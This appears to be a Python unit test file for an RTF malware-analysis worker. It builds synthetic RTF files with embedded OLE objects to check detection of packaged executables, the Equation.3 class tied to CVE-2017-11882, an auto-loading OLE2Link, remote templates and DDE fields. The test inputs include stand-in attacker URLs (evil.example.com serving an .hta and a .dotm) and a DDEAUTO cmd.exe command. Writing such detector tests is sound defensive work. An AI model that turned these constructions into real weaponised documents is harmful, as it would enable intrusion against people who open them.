import os
import random
import struct

from tests.unit.workers.ole import compound
from workers.rtf import rtf


def embedded(kind: bytes, native: bytes) -> bytes:
    """An OLE 1 object as [MS-OLEDS] 2.2.5 lays it out."""
    name = struct.pack("<I", len(kind) + 1) + kind + b"\0"
    return struct.pack("<II", 0x501, 2) + name + bytes(8) + struct.pack("<I", len(native)) + native


def package(name: bytes, content: bytes) -> bytes:
    body = struct.pack("<H", 2) + name + b"\0C:\\" + name + b"\0" + struct.pack("<HH", 0, 3)
    body += struct.pack("<I", len(name) + 4) + b"C:\\" + name + b"\0"
    return body + struct.pack("<I", len(content)) + content


def document(*objects: bytes, head: bytes = b"{\\rtf1 ") -> bytes:
    parts = (b"{\\object\\objemb{\\*\\objdata " + each.hex().encode() + b"}}" for each in objects)
    return head + b"\\par ".join(parts) + b"}"


def traits(findings):
    return {trait.name for trait in findings.result.traits}


def test_an_ordinary_text(analyse):
    """Text alone is no score."""
    findings = analyse(rtf, b"{\\rtf1\\ansi Hello {\\b world}.}")
    assert (findings.score, findings.result.objects) == (-1, [])


def test_a_program_in_a_package(analyse):
    """The package's file is handed on under its own name, and counts."""
    program = b"MZ" + os.urandom(200)
    findings = analyse(rtf, document(embedded(b"Package", package(b"tool.exe", program))))
    assert [(child.name, child.path.read_bytes()) for child in findings.children] == [("tool.exe", program)]
    assert traits(findings) == {"embedded-program"}


def test_an_equation_object(analyse):
    """The class behind CVE-2017-11882 is recognised, also when its hex is broken up by tags and blanks."""
    content = embedded(b"Equation.3", compound({"\x01Ole10Native": bytes(5000)}))
    plain = document(content)
    findings = analyse(rtf, plain)
    assert "exploited-class" in traits(findings)
    assert findings.score >= 80
    place = plain.index(content[:4].hex().encode())
    broken = plain[: place + 9] + b"{\\*\\x}\r\n " + plain[place + 9 :]
    assert "exploited-class" in traits(analyse(rtf, broken))


def test_a_link_that_loads_by_itself(analyse):
    """An OLE2Link names its address, which becomes a defanged indicator."""
    address = "http://evil.example.com/x.hta".encode("utf-16-le")
    findings = analyse(
        rtf, document(embedded(b"OLE2Link", compound({"\x01Ole": address.ljust(5000, b"\0")})))
    )
    assert "loads-by-itself" in traits(findings)
    assert "hxxp://evil[.]example[.]com/x.hta" in [each.value for each in findings.result.indicators]


def test_a_remote_template(analyse):
    """A template from the network is a trick, one from the disk is not."""
    away = analyse(rtf, b"{\\rtf1{\\*\\template http://evil.example.com/t.dotm}x}")
    assert (away.score, traits(away)) == (50, {"remote-template"})
    assert analyse(rtf, b"{\\rtf1{\\*\\template C:/Normal.dotm}x}").score == -1


def test_dde(analyse):
    """A DDE field's command is shown."""
    findings = analyse(rtf, b'{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd.exe "/k calc"}}}')
    assert "cmd.exe" in findings.result.fields[0]
    assert traits(findings) == {"dde"}


def test_broken_texts(analyse):
    """However broken, a text is read."""
    content, noise = document(embedded(b"Package", package(b"a.txt", b"x" * 200))), random.Random(12)
    for _ in range(80):
        copy = bytearray(content[: noise.randrange(1, len(content))])
        for _ in range(10):
            copy[noise.randrange(len(copy))] = noise.randrange(256)
        analyse(rtf, bytes(copy))
    for garbage in (b"", b"x", b"{\\rtf1" + b"{" * 100_000, b"{\\rtf1{\\bin99999999999 x}}"):
        analyse(rtf, garbage)
